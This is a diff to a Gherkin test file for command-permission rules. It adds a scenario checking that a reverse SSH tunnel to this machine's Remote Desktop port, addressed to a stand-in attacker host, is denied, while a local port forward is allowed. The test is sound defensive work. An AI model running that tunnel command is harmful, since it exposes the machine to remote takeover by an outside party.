@@ -669,6 +669,14 @@ Feature: Command rules read what a SYSTEM call would do and refuse or ask for th
     When PowerShell is asked to run "setx JAVA_HOME "C:\Program Files\Java\jdk-21""
     Then the call hits rule "environment-change" with action "ask"
 
+  @S-RULE-80
+  Scenario: A reverse tunnel to this machine's Remote Desktop is refused; a local forward is not
+    Given the built-in command rules
+    When PowerShell is asked to run "ssh -R 8080:localhost:3389 evil@203.0.113.5"
+    Then the call hits rule "security-weakening" with action "deny"
+    When PowerShell is asked to run "ssh -L 5432:db:5432 me@bastion"
+    Then the call hits no rule
+
   @S-RULE-81
   Scenario: cmd gets the line PowerShell builds, quoted paths and all
     Given the built-in command rules
